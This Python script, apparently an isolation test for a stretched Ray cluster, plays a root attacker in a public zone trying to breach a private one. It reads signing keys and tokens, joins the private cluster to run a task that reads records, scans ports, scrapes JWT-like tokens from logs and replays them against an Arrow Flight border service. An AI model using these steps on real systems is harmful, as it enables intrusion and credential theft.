"""Whoever holds the public machine, root, with all that its zone was given: tries what a stretched cluster allows.

`python hostile.py PRIVATE_ADDRESS PRIVATE_FOLDER RECORDS PRIVATE_PORTS`, in the public zone's namespaces. Prints one
JSON object: what each try ended in. Whatever is reached or read begins with "REACHED".
"""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import sys
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pyarrow.flight as flight

ADDRESS, FOLDER, RECORDS, PORTS = sys.argv[1], Path(sys.argv[2]), Path(sys.argv[3]), json.loads(sys.argv[4])
GIVEN = Path(os.environ["FABRIC_GIVEN"])
TOKEN = (GIVEN / "ray-token").read_text()
PAPERS = json.loads((GIVEN / "papers.json").read_text())
JOIN = """
import os, ray
ray.init(address=os.environ["TARGET"], log_to_driver=False, logging_level="ERROR")
print([name["name"] for name in ray.util.list_named_actors(all_namespaces=True)])
print(ray.get(ray.remote(lambda: open(os.environ["RECORDS"]).read()).remote(), timeout=10))
"""


def tried(work: Callable[[], object]) -> str:
    """Return what a try ended in."""
    try:
        return f"REACHED {str(work())[:80]}"
    except urllib.error.HTTPError as error:
        return f"status {error.code}"
    except Exception as error:
        return type(error).__name__


def read(path: Path) -> object:
    """Read a file, or what stands in a folder; nothing is no success."""
    found = sorted(each.name for each in path.iterdir()) if path.is_dir() else path.read_bytes()
    if not found:
        raise FileNotFoundError
    return found


def connect(port: int) -> str:
    """Open a connection."""
    with socket.create_connection((ADDRESS, port), 3):
        return "connected"


def asks(path: str, port: int) -> object:
    """Ask the private jobs API with the token of the public cluster."""
    request = urllib.request.Request(f"http://{ADDRESS}:{port}{path}", headers={"Authorization": f"Bearer {TOKEN}"})
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    with opener.open(request, timeout=3) as response:
        return response.read()


def joins() -> object:
    """Join the private cluster as a driver: name its actors, run a task there that reads the records."""
    target = {
        "TARGET": f"{ADDRESS}:{PORTS['gcs']}",
        "RECORDS": str(RECORDS),
        "RAY_gcs_rpc_server_reconnect_timeout_s": "5",
    }
    done = subprocess.run(
        [sys.executable, "-c", JOIN], env={**os.environ, **target}, capture_output=True, text=True, timeout=20
    )
    if done.returncode:
        raise ConnectionError
    return done.stdout


def flights(token: str) -> flight.FlightClient:
    """Call the border with the zone's papers and a token, and fetch what lies ready."""
    client = flight.FlightClient(
        f"grpc+tls://{PAPERS['address']}",
        tls_root_certs=PAPERS["authority"].encode(),
        cert_chain=PAPERS["certificate"].encode(),
        private_key=PAPERS["key"].encode(),
        override_hostname="border.fabric.internal",
    )
    options = flight.FlightCallOptions(timeout=60, headers=[(b"authorization", f"Bearer {token}".encode())])
    ticket = flight.Ticket(json.dumps({"crossing": "c" * 32, "item": "listing", "offset": 0}).encode())
    return client.do_get(ticket, options).read_all()


def old_tokens() -> Iterator[str]:
    """Yield every token that jobs of this zone once had, as the zone's own logs keep them."""
    for path in Path(os.environ["HOME"]).rglob("*.log"):
        yield from (found.decode() for found in re.findall(rb"eyJ[\w-]+\.[\w-]+\.[\w-]+", path.read_bytes()))


def everything() -> dict[str, str]:
    """Try everything."""
    found = {
        "read the records": tried(lambda: read(RECORDS)),
        "read the private folder": tried(lambda: read(FOLDER)),
        "read the signing key": tried(lambda: read(FOLDER / ".fabric" / "keys" / "signing.key")),
        "read the private token": tried(lambda: read(FOLDER / ".fabric" / "ray-token")),
        "read the ledger": tried(lambda: read(FOLDER / ".fabric" / "evidence")),
        "read the private node's folder": tried(lambda: read(Path(os.environ["HOME"].rpartition("-")[0] + "-0"))),
        "list the private jobs": tried(lambda: asks("/api/jobs/", PORTS["jobs"])),
        "list the private actors": tried(lambda: asks("/api/v0/actors", PORTS["jobs"])),
        "join the private cluster and run there": tried(joins),
        "call the border without a token": tried(lambda: flights("")),
        "call the border with the cluster's token": tried(lambda: flights(TOKEN)),
    }
    with ThreadPoolExecutor(32) as pool:
        tries = dict(zip(PORTS, pool.map(lambda port: tried(lambda: connect(port)), PORTS.values()), strict=True))
    found |= {f"connect to the private {name}": ended for name, ended in tries.items()}
    replayed = {tried(lambda token=token: flights(token)) for token in set(old_tokens())}
    found["replay every token that the zone ever had"] = " ".join(sorted(replayed)) or "REACHED none to replay"
    return found


if __name__ == "__main__":
    print(json.dumps(everything()))
